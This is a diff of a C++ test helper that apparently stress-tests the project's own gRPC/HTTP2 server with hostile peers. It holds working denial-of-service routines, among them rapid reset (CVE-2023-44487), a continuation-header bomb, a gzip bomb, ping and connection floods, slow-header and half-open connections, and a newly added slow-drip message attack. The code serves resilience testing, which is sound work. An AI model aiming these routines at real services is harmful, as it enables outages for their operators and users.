@@ -1,17 +1,14 @@
 #include "tests/testing/hostile_peer.h"
 
-#include <arpa/inet.h>
-#include <netinet/in.h>
-#include <sys/socket.h>
-#include <sys/un.h>
 #include <zlib.h>
 
+#include <algorithm>
 #include <chrono>
-#include <cstdlib>
+#include <map>
 #include <memory>
 #include <thread>
+#include <vector>
 
-#include "service/connections/descriptor.h"
 #include "tests/testing/client_call.h"
 #include "tests/testing/http2_frames.h"
 
@@ -19,69 +16,10 @@ namespace eta::testing {
 namespace {
 
 using namespace http2;  // NOLINT(google-build-using-namespace)
+using Peer = HostileConnection;
 using Stop = std::atomic<bool>;
 
-// A connection that has said its preface. Sends that would wait are dropped after 100 ms: whoever
-// does not read any more has won.
-class Peer {
- public:
-  explicit Peer(const std::string& target, const std::string& settings = "") {
-    const bool is_unix = target.rfind("unix:", 0) == 0;
-    socket_.Reset(socket(is_unix ? AF_UNIX : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
-    const timeval patience{.tv_sec = 0, .tv_usec = 100'000};
-    setsockopt(socket_.get(), SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
-    if (!(is_unix ? ConnectUnix(target.substr(5)) : ConnectTcp(target))) {
-      socket_.Reset();
-      return;
-    }
-    Send(std::string(kPreface) + Frame(kSettings, 0, 0, settings));
-  }
-
-  bool open() const { return socket_.valid(); }
-  // False, and closed, once the other end has closed or reads no more.
-  bool Send(const std::string& bytes) {
-    for (size_t sent = 0; open() && sent < bytes.size();) {
-      const ssize_t count =
-          send(socket_.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
-      if (count <= 0) {
-        socket_.Reset();
-      } else {
-        sent += static_cast<size_t>(count);
-      }
-      Drain();
-    }
-    return open();
-  }
-  // Drops what came.
-  void Drain() {
-    char bytes[16384];
-    ssize_t count = 1;
-    while (open() && count > 0) {
-      count = recv(socket_.get(), bytes, sizeof(bytes), MSG_DONTWAIT);
-      if (count == 0) socket_.Reset();
-    }
-  }
-
- private:
-  bool ConnectTcp(const std::string& target) {
-    const size_t colon = target.rfind(':');
-    sockaddr_in to{}, from{};
-    to.sin_family = from.sin_family = AF_INET;
-    to.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
-    inet_pton(AF_INET, target.substr(0, colon).c_str(), &to.sin_addr);
-    from.sin_addr.s_addr = htonl(0x7f000042);
-    bind(socket_.get(), reinterpret_cast<const sockaddr*>(&from), sizeof(from));
-    return connect(socket_.get(), reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0;
-  }
-  bool ConnectUnix(const std::string& path) {
-    sockaddr_un to{};
-    to.sun_family = AF_UNIX;
-    path.copy(to.sun_path, sizeof(to.sun_path) - 1);
-    return connect(socket_.get(), reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0;
-  }
-
-  Descriptor socket_;
-};
+constexpr char kCalibrateMethod[] = "/eta.v1.EtaService/Calibrate";
 
 void Pause(int milliseconds) {
   std::this_thread::sleep_for(std::chrono::milliseconds(milliseconds));
@@ -92,9 +30,9 @@ std::string Call(uint32_t stream, const std::string& more = "", uint8_t flags = 
 }
 
 // CVE-2023-44487: calls that are taken back at once never count as concurrent.
-void RapidReset(const std::string& target, const Stop& stop) {
+void RapidReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     for (uint32_t stream = 1; !stop && peer.open() && stream < 1'000'000;) {
       std::string bytes;
@@ -107,9 +45,9 @@ void RapidReset(const std::string& target, const Stop& stop) {
 }
 
 // Limits count once they are acknowledged: this peer opens calls, and sends long headers, without.
-void UnacknowledgedSettings(const std::string& target, const Stop& stop) {
+void UnacknowledgedSettings(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     for (uint32_t stream = 1; !stop && peer.open() && stream < 6000;) {
       std::string bytes;
       for (int i = 0; i < 100; ++i, stream += 2) bytes += Call(stream);
@@ -131,10 +69,10 @@ void UnacknowledgedSettings(const std::string& target, const Stop& stop) {
 
 // CVE-2023-33953: a header that is declared as 1 GiB and comes in pieces, which gRPC 1.51 joins
 // anew with every piece. 7 MB a connection: a second of a core.
-void ContinuationBomb(const std::string& target, const Stop& stop) {
+void ContinuationBomb(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string piece = Frame(kContinuation, 0, 1, std::string(16384, 'x'));
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     std::string headers = CallHeaders(kGenerateMethod);
     headers.append(1, '\0').append(StringLength(4)).append("bomb").append(StringLength(1 << 30));
@@ -144,9 +82,9 @@ void ContinuationBomb(const std::string& target, const Stop& stop) {
 }
 
 // CVE-2023-32732: one bad value ends the connection, and with it the calls of others.
-void BadMetadata(const std::string& target, const Stop& stop) {
+void BadMetadata(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   for (int i = 0; !stop; ++i) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     const std::string bad = i % 2 == 0 ? Literal("eta-bin", "*** no base64 ***")
                                        : Literal("long", std::string(12'000, 'x'));
@@ -173,10 +111,10 @@ std::string Bomb() {
   return bomb;
 }
 
-void GzipBomb(const std::string& target, const Stop& stop) {
+void GzipBomb(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   static const std::string bomb = Message(Bomb(), true);
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     for (uint32_t stream = 1; !stop && peer.open() && stream < 20; stream += 2) {
       std::string bytes = Call(stream, Literal("grpc-encoding", "gzip"));
@@ -190,14 +128,14 @@ void GzipBomb(const std::string& target, const Stop& stop) {
   }
 }
 
-void PingFlood(const std::string& target, const Stop& stop) {
+void PingFlood(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   std::string bytes;
   for (int i = 0; i < 500; ++i) {
     bytes += Frame(kPing, 0, 0, "12345678");
     if (i % 10 == 0) bytes += Frame(kSettings, 0, 0, "");
   }
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     while (!stop && peer.Send(bytes)) {
     }
@@ -205,15 +143,15 @@ void PingFlood(const std::string& target, const Stop& stop) {
 }
 
 // Many connections whose headers come a byte at a time.
-void SlowHeaders(const std::string& target, const Stop& stop) {
+void SlowHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   std::vector<std::unique_ptr<Peer>> peers;
   const std::string headers = Frame(kHeaders, kEndHeaders, 1, CallHeaders(kGenerateMethod));
   size_t at = 0;
   while (!stop) {
-    if (peers.size() < 200) peers.push_back(std::make_unique<Peer>(target));
+    if (peers.size() < 200) peers.push_back(std::make_unique<Peer>(target, tally));
     for (auto& peer : peers) {
       if (peer->open() && at < headers.size() - 1) peer->Send(headers.substr(at, 1));
-      if (!peer->open()) peer = std::make_unique<Peer>(target);
+      if (!peer->open()) peer = std::make_unique<Peer>(target, tally);
     }
     at = (at + 1) % headers.size();
     Pause(5);
@@ -221,7 +159,7 @@ void SlowHeaders(const std::string& target, const Stop& stop) {
 }
 
 // Calls whose answers are never read, their windows shut, and connections that only stay.
-void HalfOpen(const std::string& target, const Stop& stop) {
+void HalfOpen(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string no_window = {0, 4, 0, 0, 0, 0};
   v1::GenerateRequest request;
   request.set_text("Once upon a time");
@@ -230,7 +168,7 @@ void HalfOpen(const std::string& target, const Stop& stop) {
   std::vector<std::unique_ptr<Peer>> peers;
   while (!stop) {
     if (peers.size() < 100) {
-      peers.push_back(std::make_unique<Peer>(target, no_window));
+      peers.push_back(std::make_unique<Peer>(target, tally, no_window));
       if (peers.size() % 25 == 0) {
         peers.back()->Send(Call(1) + Frame(kData, kEndStream, 1, message));
       }
@@ -241,16 +179,16 @@ void HalfOpen(const std::string& target, const Stop& stop) {
 }
 
 // CVE-2019-9518 and its kin: frames that cost nothing to send.
-void EmptyFrames(const std::string& target, const Stop& stop) {
+void EmptyFrames(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
-    Peer peer(target);
+    Peer peer(target, tally);
     if (!peer.open()) Pause(1);
     peer.Send(Call(1) + Frame(kHeaders, 0, 3, ""));
     std::string bytes;
     for (int i = 0; i < 1000; ++i) bytes += Frame(kContinuation, 0, 3, "");
     for (int i = 0; i < 100 && !stop && peer.Send(bytes); ++i) {
     }
-    Peer other(target);
+    Peer other(target, tally);
     bytes = Call(1);
     for (int i = 0; i < 1000; ++i) {
       bytes += Frame(kData, 0, 1, "") + Frame(kPriority, 0, 3, BigEndian(0) + "\x10");
@@ -261,7 +199,7 @@ void EmptyFrames(const std::string& target, const Stop& stop) {
 }
 
 // CVE-2023-1428 and its kin: headers that no client sends, beside too much metadata.
-void OddHeaders(const std::string& target, const Stop& stop) {
+void OddHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   const std::string filler = Literal("filler", std::string(9000, 'x'));
   const std::string odd[] = {Literal("te", "x") + filler,
                              Literal(":scheme", "gopher") + filler,
@@ -277,7 +215,7 @@ void OddHeaders(const std::string& target, const Stop& stop) {
                              Literal("host", std::string("a\0b\r\nc", 6))};
   while (!stop) {
     for (const std::string& headers : odd) {
-      Peer peer(target);
+      Peer peer(target, tally);
       if (!peer.open()) Pause(1);
       peer.Send(Call(1, headers) + Frame(kData, kEndStream, 1, Message("")));
       // An update beyond the window's bounds, a stream of an even number, a frame too long.
@@ -290,9 +228,63 @@ void OddHeaders(const std::string& target, const Stop& stop) {
   }
 }
 
-void ConnectionFlood(const std::string& target, const Stop& stop) {
+// A message that stops a kilobyte before its end.
+struct HalfSent {
+  size_t size;  // up to there, with its prefix
+  size_t sent = 0;
+  bool refused = false;
+};
+
+// As many such calls as are let in, of the method that takes most, then of the other; their
+// messages go on by a byte a second.
+void HalfSentMessages(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
+  constexpr size_t kPiece = 16384;
+  constexpr std::chrono::milliseconds kDrip{1000};
+  const std::string filler(kPiece, 'x');
   while (!stop) {
-    const Peer peer(target);
+    Peer peer(target, tally);
+    if (!peer.open()) Pause(1);
+    std::map<uint32_t, HalfSent> messages;
+    peer.on_frame = [&messages](const FrameView& frame) {
+      const bool ends =
+          frame.type == kResetStream || (frame.type == kHeaders && (frame.flags & kEndStream) != 0);
+      const auto message = messages.find(frame.stream);
+      if (ends && message != messages.end()) message->second.refused = true;
+    };
+    uint32_t stream = 1;
+    const auto begin = [&](const char* method, uint32_t size) {
+      messages[stream] = {.size = size - 1024, .sent = 5};
+      peer.Send(Frame(kHeaders, kEndHeaders, stream, CallHeaders(method)) +
+                Frame(kData, 0, stream, '\0' + BigEndian(size)));
+      stream += 2;
+    };
+    for (int i = 0; i < 100; ++i) begin(kCalibrateMethod, 8 << 20);
+    auto next_drip = std::chrono::steady_clock::now() + kDrip;
+    while (!stop && peer.open()) {
+      const size_t refused =
+          std::erase_if(messages, [](const auto& m) { return m.second.refused; });
+      for (size_t i = 0; i < refused; ++i) begin(kGenerateMethod, 1 << 20);
+      const bool drip = std::chrono::steady_clock::now() >= next_drip;
+      if (drip) next_drip += kDrip;
+      bool moved = false;
+      for (auto& [id, message] : messages) {
+        if (drip && message.sent == message.size) ++message.size;
+        const auto room = static_cast<size_t>(std::max<int64_t>(0, peer.Room(id)));
+        const size_t bytes = std::min({room, kPiece, message.size - message.sent});
+        if (bytes == 0) continue;
+        peer.Send(Frame(kData, 0, id, filler.substr(0, bytes)));
+        message.sent += bytes;
+        moved = true;
+      }
+      if (!moved) Pause(5);
+      peer.Drain();
+    }
+  }
+}
+
+void ConnectionFlood(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
+  while (!stop) {
+    const Peer peer(target, tally);
     if (!peer.open()) Pause(1);
   }
 }
@@ -301,17 +293,24 @@ void ConnectionFlood(const std::string& target, const Stop& stop) {
 
 const std::vector<Attack>& Attacks() {
   static const std::vector<Attack> attacks = {
-      {"rapid_reset", RapidReset},
-      {"unacknowledged_settings", UnacknowledgedSettings},
-      {"continuation_bomb", ContinuationBomb},
-      {"bad_metadata", BadMetadata},
-      {"gzip_bomb", GzipBomb},
-      {"ping_flood", PingFlood},
-      {"slow_headers", SlowHeaders},
-      {"half_open", HalfOpen},
-      {"empty_frames", EmptyFrames},
-      {"odd_headers", OddHeaders},
-      {"connection_flood", ConnectionFlood},
+      {.name = "rapid_reset", .min_frames = 20'000, .thrown_out = true, .run = RapidReset},
+      {.name = "unacknowledged_settings",
+       .min_frames = 5'000,
+       .thrown_out = true,
+       .run = UnacknowledgedSettings},
+      {.name = "continuation_bomb", .min_frames = 500, .thrown_out = true, .run = ContinuationBomb},
+      {.name = "bad_metadata", .min_connections = 20, .min_frames = 60, .run = BadMetadata},
+      {.name = "gzip_bomb", .min_frames = 20, .run = GzipBomb},
+      {.name = "ping_flood", .min_frames = 100'000, .thrown_out = true, .run = PingFlood},
+      {.name = "slow_headers", .min_connections = 20, .run = SlowHeaders},
+      {.name = "half_open", .min_connections = 20, .run = HalfOpen},
+      {.name = "empty_frames", .min_frames = 100'000, .thrown_out = true, .run = EmptyFrames},
+      {.name = "odd_headers", .min_connections = 20, .min_frames = 60, .run = OddHeaders},
+      {.name = "connection_flood", .min_connections = 20, .run = ConnectionFlood},
+      {.name = "half_sent_messages",
+       .min_frames = 1'000,
+       .held_kb = 128 * 1024,
+       .run = HalfSentMessages},
   };
   return attacks;
 }
